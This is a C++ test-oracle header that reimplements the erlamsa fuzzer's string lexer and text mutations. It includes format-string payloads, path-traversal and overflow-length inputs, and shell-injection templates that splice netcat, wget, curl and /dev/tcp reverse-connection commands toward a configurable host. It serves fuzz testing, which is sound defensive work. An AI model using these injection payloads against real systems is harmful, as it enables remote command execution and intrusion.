// ORACLE (test infrastructure only -- never linked into the product path).
// Restatement of erlamsa_strlex (src/erlamsa_strlex.erl:46-156) and of the
// ASCII text mutations built on it (src/erlamsa_mutations.erl:436-651).
#pragma once
#include "common.hpp"

namespace eo {

struct Chunk {
    enum Type { BYTE, TEXT, DELIM } type;
    Bin bytes;
    uint8_t left = 0, right = 0;
};
using Chunks = std::vector<Chunk>;

// texty/1 :46-52
inline bool texty(uint8_t b) {
    if (b < 9) return false;
    if (b > 126) return false;
    if (b > 31) return true;
    return b == 9 || b == 10 || b == 13;
}

// lex/1 :75-143. Written as an explicit state machine over byte positions; the
// states correspond to string_lex_step / step_text / step_delimited.
inline Chunks lex(const Bin& in) {
    const uint8_t* d = (const uint8_t*)in.data(); size_t n = in.size();
    Chunks out; Bin raw; size_t p = 0;
    auto texty_enough = [&](size_t q) {   // :54-64, MIN_TEXTY = 6
        for (int k = 0; k < 6; k++) { if (q + k >= n) return true; if (!texty(d[q + k])) return false; }
        return true;
    };
    while (p < n) {
        if (!texty_enough(p)) { raw.push_back((char)d[p]); p++; continue; }
        if (!raw.empty()) { out.push_back({Chunk::BYTE, raw}); raw.clear(); }
        // step_text
        Bin seen; bool back_to_lex = false;
        while (!back_to_lex) {
            if (p >= n) { out.push_back({Chunk::TEXT, seen}); back_to_lex = true; break; }
            uint8_t h = d[p];
            if (h == '"' || h == '\'') {
                // step_delimited(T, H, H, [], [H|Seenr], Chunks)
                uint8_t q = h; p++; Bin after;
                for (;;) {
                    if (p >= n) { out.push_back({Chunk::TEXT, seen + (char)q + after}); back_to_lex = true; break; }
                    uint8_t c = d[p];
                    if (c == q) {
                        if (!seen.empty()) out.push_back({Chunk::TEXT, seen});
                        Chunk ch{Chunk::DELIM, after}; ch.left = q; ch.right = q; out.push_back(ch);
                        p++; back_to_lex = true; break;
                    }
                    if (c == 92 && p + 1 >= n) { after.push_back((char)92); p++; continue; }
                    if (c == 92) {
                        if (texty(d[p + 1])) { after.push_back((char)92); after.push_back((char)d[p + 1]); p += 2; }
                        else { after.push_back((char)92); p++; }
                        continue;
                    }
                    if (texty(c)) { after.push_back((char)c); p++; continue; }
                    out.push_back({Chunk::TEXT, seen + (char)q + after}); back_to_lex = true; break;
                }
                break;
            }
            if (texty(h)) { seen.push_back((char)h); p++; continue; }
            out.push_back({Chunk::TEXT, seen}); back_to_lex = true;
        }
    }
    if (!raw.empty()) out.push_back({Chunk::BYTE, raw});
    return out;
}

// unlex/1 :146-156
inline Bin unlex(const Chunks& cs) {
    Bin o;
    for (const Chunk& c : cs) {
        if (c.type == Chunk::DELIM) { o.push_back((char)c.left); o += c.bytes; o.push_back((char)c.right); }
        else o += c.bytes;
    }
    return o;
}

// ---- text mutations, src/erlamsa_mutations.erl:436-563
enum TextMut { INSERT_BADNESS, REPLACE_BADNESS, INSERT_TRAVERSAL, INSERT_AAAS, INSERT_NULL, INSERT_DELIMETER, INSERT_SHELLINJ };

struct TextCtx { Rng* rng; std::string ssrf_host; int ssrf_port; };

inline const std::vector<Bin>& silly_strings() {   // :445-447
    static const std::vector<Bin> v = {"%n", "%n", "%s", "%d", "%p", "%#x", Bin(1, '\0'), "aaaa%d%n", "\n", "\r", "\t", "\b"};
    return v;
}
inline const std::vector<Bin>& delimeters() {      // :450-452
    static const std::vector<Bin> v = {"'", "\"", "'", "\"", "'", "\"", "&", ":", "|", ";", "\\", "\n", "\r", "\t", " ", "`",
                                       Bin(1, '\0'), "]", "[", ">", "<"};
    return v;
}
inline Bin fmt1(const Bin& f, const Bin& a) {       // io_lib:format with a single ~s
    Bin o; for (size_t i = 0; i < f.size(); i++) { if (f[i] == '~' && i + 1 < f.size() && f[i + 1] == 's') { o += a; i++; } else o.push_back(f[i]); } return o;
}
inline Bin fmt_sp(const Bin& f, const Bin& s, int p) {   // io_lib:format with ~s then ~p (integer)
    Bin o; for (size_t i = 0; i < f.size(); i++) {
        if (f[i] == '~' && i + 1 < f.size() && f[i + 1] == 's') { o += s; i++; }
        else if (f[i] == '~' && i + 1 < f.size() && f[i + 1] == 'p') { o += std::to_string(p); i++; }
        else o.push_back(f[i]);
    } return o;
}
inline Bin random_badness(TextCtx& c) {              // :469-477
    uint64_t n = c.rng->rand(20) + 1; Bin out;
    for (uint64_t i = 0; i < n; i++) { const Bin& x = silly_strings()[c.rng->rand_elem_idx(silly_strings().size())]; out = x + out; }
    return out;
}
inline uint64_t rand_as_count(TextCtx& c) {          // :486-501
    static const uint64_t t[10] = {127, 128, 255, 256, 16383, 16384, 32767, 32768, 65535, 65536};
    uint64_t type = c.rng->rand(11);
    return type < 10 ? t[type] : c.rng->rand(1024);
}
inline Bin insert_traversal(TextCtx& c, const Bin& symb) {   // :509-511
    Bin o = symb; uint64_t k = c.rng->erand(10);
    for (uint64_t i = 0; i < k; i++) { o += ".."; o += symb; }
    return o;
}
inline Bin buildrevconnect(TextCtx& c) {             // :517-522
    static const std::vector<Bin> inj = {"';~s;'", "\";~s;\"", ";~s;", "|~s#", "^ ~s ^", "& ~s &", "&& ~s &&", "|| ~s ||", "%0D~s%0D", "`~s`"};
    static const std::vector<Bin> rev = {"calc.exe & notepad.exe ~s ~p ", "nc ~s ~p", "wget http://~s:~p", "curl ~s ~p",
                                         "exec 3<>/dev/tcp/~s/~p", "sleep 100000 # ~s ~p ", "echo>/tmp/erlamsa.~s.~p"};
    const Bin& i = inj[c.rng->rand_elem_idx(inj.size())];
    const Bin& r = rev[c.rng->rand_elem_idx(rev.size())];
    return fmt1(i, fmt_sp(r, c.ssrf_host, c.ssrf_port));
}
// mutate_text/2 :524-563
inline Bin mutate_text(TextCtx& c, TextMut m, const Bin& l) {
    Rng& r = *c.rng; size_t n = l.size();
    switch (m) {
    case INSERT_BADNESS: {
        if (n == 0) return random_badness(c);
        uint64_t p = r.erand(n); Bin bad = random_badness(c);
        return l.substr(0, p - 1) + bad + l.substr(p - 1);
    }
    case REPLACE_BADNESS: {
        if (n == 0) return random_badness(c);
        uint64_t p = r.erand(n); Bin bad = random_badness(c);
        Bin tail = l.substr(p);                    // lists:nthtail(P, Lst)
        Bin o = l.substr(0, p - 1) + tail;         // overwrite/2 keeps the NEW list's elements first ...
        if (bad.size() > tail.size()) o += bad.substr(tail.size());   // ... then what is left of the old one
        return o;
    }
    case INSERT_AAAS: {
        if (n == 0) return Bin(rand_as_count(c), 'a');
        uint64_t cnt = rand_as_count(c); uint64_t p = r.erand(n);
        return l.substr(0, p - 1) + Bin(cnt, 'a') + l.substr(p);
    }
    case INSERT_TRAVERSAL: {
        if (n == 0) return insert_traversal(c, "/");
        uint64_t p = r.erand(n);
        static const std::vector<Bin> sl = {"\\", "/"};
        Bin symb = sl[r.rand_elem_idx(2)];
        return l.substr(0, p - 1) + insert_traversal(c, symb) + l.substr(p);
    }
    case INSERT_NULL: return l + Bin(1, '\0');
    case INSERT_DELIMETER: {
        if (n == 0) return delimeters()[r.rand_elem_idx(delimeters().size())];
        uint64_t p = r.erand(n); const Bin& bad = delimeters()[r.rand_elem_idx(delimeters().size())];
        return l.substr(0, p - 1) + bad + l.substr(p - 1);
    }
    case INSERT_SHELLINJ: {
        if (n == 0) return delimeters()[r.rand_elem_idx(delimeters().size())];
        uint64_t p = r.erand(n); Bin inj = buildrevconnect(c);
        return l.substr(0, p - 1) + inj + l.substr(p - 1);
    }
    }
    return l;
}
inline Bin mutate_text_data(TextCtx& c, const Bin& l, const std::vector<TextMut>& ms) {   // :513-515
    return mutate_text(c, ms[c.rng->rand_elem_idx(ms.size())], l);
}
inline bool stringy(const Chunks& cs) {              // :439-442
    for (const Chunk& c : cs) if (c.type != Chunk::BYTE) return true;
    return false;
}
// string_generic_mutate/4 :570-583
inline void string_generic_mutate(TextCtx& c, Chunks& cs, const std::vector<TextMut>& ms) {
    size_t l = cs.size();
    for (size_t r = 0; !((double)r > (double)l / 4.0); r++) {
        uint64_t p = c.rng->erand(l); Chunk& el = cs[p - 1];
        if (el.type == Chunk::BYTE) continue;
        el.bytes = mutate_text_data(c, el.bytes, ms);
        return;
    }
}
// string_delimeter_mutate/3 :626-644, drop_delimeter/2 :615-622
inline void string_delimeter_mutate(TextCtx& c, Chunks& cs) {
    size_t l = cs.size();
    for (size_t r = 0; !((double)r > (double)l / 4.0); r++) {
        uint64_t p = c.rng->erand(l); Chunk& el = cs[p - 1];
        if (el.type == Chunk::BYTE) continue;
        if (el.type == Chunk::TEXT) {
            static const TextMut four[4] = {INSERT_DELIMETER, INSERT_DELIMETER, INSERT_DELIMETER, INSERT_SHELLINJ};
            TextMut m = four[c.rng->rand_elem_idx(4)];
            el.bytes = mutate_text_data(c, el.bytes, std::vector<TextMut>{m});
        } else {
            uint64_t k = c.rng->rand(4);
            if (k == 0) { el.bytes = Bin(1, (char)el.left) + el.bytes; el.type = Chunk::TEXT; }
            else if (k == 1) { el.bytes = el.bytes + Bin(1, (char)el.right); el.type = Chunk::TEXT; }
            else if (k == 2) { el.type = Chunk::TEXT; }
        }
        return;
    }
}

}  // namespace eo
